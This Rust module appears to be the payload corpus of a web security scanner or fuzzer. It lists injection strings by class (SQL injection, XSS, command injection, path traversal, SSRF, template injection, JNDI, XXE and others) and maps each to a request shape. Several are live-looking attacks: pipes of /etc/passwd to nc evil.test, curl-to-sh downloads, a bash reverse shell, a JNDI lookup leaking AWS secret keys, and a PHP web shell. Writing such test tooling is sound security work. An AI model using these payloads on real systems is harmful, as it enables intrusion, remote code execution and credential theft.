//! Attacks in their plain form, some of each class.

use crate::request::{self, Request};

/// An attack, and where it can stand.
#[derive(Debug, Clone)]
pub(crate) struct Seed {
    pub(crate) class: String,
    pub(crate) text: String,
    pub(crate) form: Form,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Form {
    /// A value of a parameter, or of a field.
    Value,
    /// A body in JSON.
    Json,
    /// A whole query, or a form.
    Query,
    /// A body in XML.
    Xml,
}

impl Form {
    /// The places where it is tried.
    pub(crate) fn places(self) -> &'static [fn(&str) -> Request] {
        match self {
            Self::Value => &[request::query, request::json],
            Self::Json => &[|text| Request::with_body("application/json", text)],
            Self::Query => &[
                |text| Request::with_query(text.to_owned()),
                |text| Request::with_body("application/x-www-form-urlencoded", text),
            ],
            Self::Xml => &[|text| Request::with_body("application/xml", text)],
        }
    }
}

pub(crate) fn built_in() -> Vec<Seed> {
    let of = |form: Form| {
        move |(class, texts): &(&str, &[&str])| -> Vec<Seed> {
            let seed = |text: &&str| Seed { class: (*class).to_owned(), text: (*text).to_owned(), form };
            texts.iter().map(seed).collect()
        }
    };
    let values = VALUES.iter().flat_map(of(Form::Value));
    let json = JSON.iter().flat_map(of(Form::Json));
    values
        .chain(json)
        .chain(QUERIES.iter().flat_map(of(Form::Query)))
        .chain(XML.iter().flat_map(of(Form::Xml)))
        .collect()
}

const VALUES: &[(&str, &[&str])] = &[
    (
        "sqli",
        &[
            "1' OR '1'='1",
            "' OR 1=1-- -",
            "admin'-- -",
            "1 UNION SELECT username, password FROM users",
            "1' UNION ALL SELECT NULL,NULL,version()-- -",
            "1; DROP TABLE users-- -",
            "1' AND SLEEP(5)-- -",
            "1' AND extractvalue(1, concat(0x7e, (SELECT database())))-- -",
            "'; EXEC xp_cmdshell('whoami')-- -",
            "1 AND 1=(SELECT COUNT(*) FROM users)",
            "' OR EXISTS(SELECT * FROM users WHERE name = 'admin')-- -",
            "1'; WAITFOR DELAY '0:0:5'-- -",
            "1) OR (1=1",
            "' OR ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- -",
            "1'||(SELECT pg_sleep(5))||'",
            "x' AND 1=CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS INT)-- -",
            "1' INTO OUTFILE '/var/www/x.php'-- -",
        ],
    ),
    (
        "xss",
        &[
            "<script>alert(1)</script>",
            "\"><script src=//evil.test/x.js></script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(document.cookie)>",
            "\" onmouseover=\"alert(1)\" x=\"",
            "<a href=\"javascript:alert(1)\">x</a>",
            "javascript:alert(document.domain)",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<details open ontoggle=alert(1)>",
            "<body onload=alert(1)>",
            "';alert(document.cookie);//",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
        ],
    ),
    (
        "rce",
        &[
            "; cat /etc/passwd",
            "x; cat /etc/passwd | nc evil.test 99",
            "$(curl http://evil.test/x.sh | sh)",
            "`id`",
            "| whoami",
            "&& wget http://evil.test/x -O /tmp/x",
            "1; ping -c 10 127.0.0.1",
            "x || uname -a",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "; python3 -c 'import os; os.system(\"id\")'",
            "& type C:\\Windows\\win.ini",
            "; powershell -enc SQBFAFgA",
        ],
    ),
    (
        "lfi",
        &[
            "../../../../etc/passwd",
            "/etc/passwd",
            "....//....//....//etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "file:///etc/passwd",
            "/proc/self/environ",
            "../../../../etc/passwd\0.png",
            "../../../../var/log/apache2/access.log",
        ],
    ),
    (
        "ssrf",
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://127.0.0.1:6379/",
            "http://localhost/admin",
            "http://metadata.google.internal/computeMetadata/v1/",
            "gopher://127.0.0.1:6379/_INFO",
            "http://[::1]:8080/",
        ],
    ),
    (
        "ssti",
        &[
            "{{7*7}}",
            "${7*7}",
            "{{config.__class__.__init__.__globals__}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
            "<%= system('id') %>",
            "#{7*7}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
        ],
    ),
    (
        "jndi",
        &[
            "${jndi:ldap://evil.test/a}",
            "${jndi:rmi://evil.test:1099/a}",
            "${jndi:dns://evil.test/${env:AWS_SECRET_ACCESS_KEY}}",
        ],
    ),
    (
        "java",
        &[
            "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "T(java.lang.Runtime).getRuntime().exec(\"id\")",
            "#{''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "new java.lang.ProcessBuilder({'id'}).start()",
        ],
    ),
    (
        "php",
        &[
            "<?php system($_GET['c']); ?>",
            "<?php eval(base64_decode('cGhwaW5mbygpOw==')); ?>",
            "php://filter/convert.base64-encode/resource=index.php",
            "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
            "phar://uploads/x.jpg",
            "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
            "${@phpinfo()}",
        ],
    ),
    (
        "node",
        &[
            "require('child_process').exec('id')",
            "process.mainModule.require('child_process').execSync('id')",
            "this.constructor.constructor('return process')().exit()",
            "global.process.mainModule.constructor._load('child_process').exec('id')",
            "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
        ],
    ),
    (
        "nosql",
        &["'; return this.password == 'x' || '1'=='1", "' || this.password.match(/.*/)//", "'; sleep(5000); var x='"],
    ),
    ("ldap", &["*)(uid=*))(|(uid=*", "admin)(&)", "*)(objectClass=*", "admin)(|(password=*))"]),
    (
        "crlf",
        &[
            "x\r\nSet-Cookie: a=b",
            "x\r\n\r\n<html>evil</html>",
            "x\r\nLocation: http://evil.test/",
            "a@b.test\r\nBcc: c@d.test",
        ],
    ),
    ("ssi", &["<!--#exec cmd=\"id\" -->", "<!--#include virtual=\"/etc/passwd\" -->", "<!--#printenv -->"]),
    ("rfi", &["http://198.51.100.7/shell.php?", "http://evil.test/c99.txt?", "ftp://evil.test/x.php"]),
];

const JSON: &[(&str, &[&str])] = &[
    (
        "nosql",
        &[
            r#"{"user":"admin","password":{"$ne":null}}"#,
            r#"{"user":{"$gt":""},"password":{"$gt":""}}"#,
            r#"{"user":"admin","password":{"$regex":"^a"}}"#,
            r#"{"$where":"this.password.length > 0"}"#,
            r#"{"user":{"$in":["admin","root"]},"password":{"$exists":true}}"#,
        ],
    ),
    ("node", &[r#"{"__proto__":{"isAdmin":true}}"#, r#"{"constructor":{"prototype":{"isAdmin":true}}}"#]),
    ("java", &[r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.test/a","autoCommit":true}"#]),
];

const QUERIES: &[(&str, &[&str])] =
    &[("nosql", &["user=admin&password[$ne]=x", "user[$regex]=.*&password[$gt]=", "q[$where]=sleep(5000)"])];

const XML: &[(&str, &[&str])] = &[(
    "xxe",
    &[
        "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
        "<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://evil.test/x.dtd\"> %x;]><a/>",
        "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></a>",
    ],
)];
